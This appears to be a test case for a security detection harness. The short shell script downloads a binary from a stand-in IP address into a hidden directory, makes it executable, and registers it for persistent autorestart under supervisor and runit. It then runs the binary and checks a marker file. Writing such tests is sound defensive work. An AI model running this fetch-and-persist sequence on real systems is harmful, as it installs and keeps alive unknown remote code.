#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/supervisor/conf.d /etc/service/cache /usr/local/lib/.c
curl -s -o /usr/local/lib/.c/cached http://203.0.113.10/programs/marker && chmod 755 /usr/local/lib/.c/cached
printf '[program:cached]\ncommand=/usr/local/lib/.c/cached\nautostart=true\nautorestart=true\nstartretries=999999\n' >/etc/supervisor/conf.d/cached.conf
printf '#!/bin/sh\nexec /usr/local/lib/.c/cached\n' >/etc/service/cache/run && chmod +x /etc/service/cache/run
/etc/service/cache/run
test -e /tmp/reached
took_place
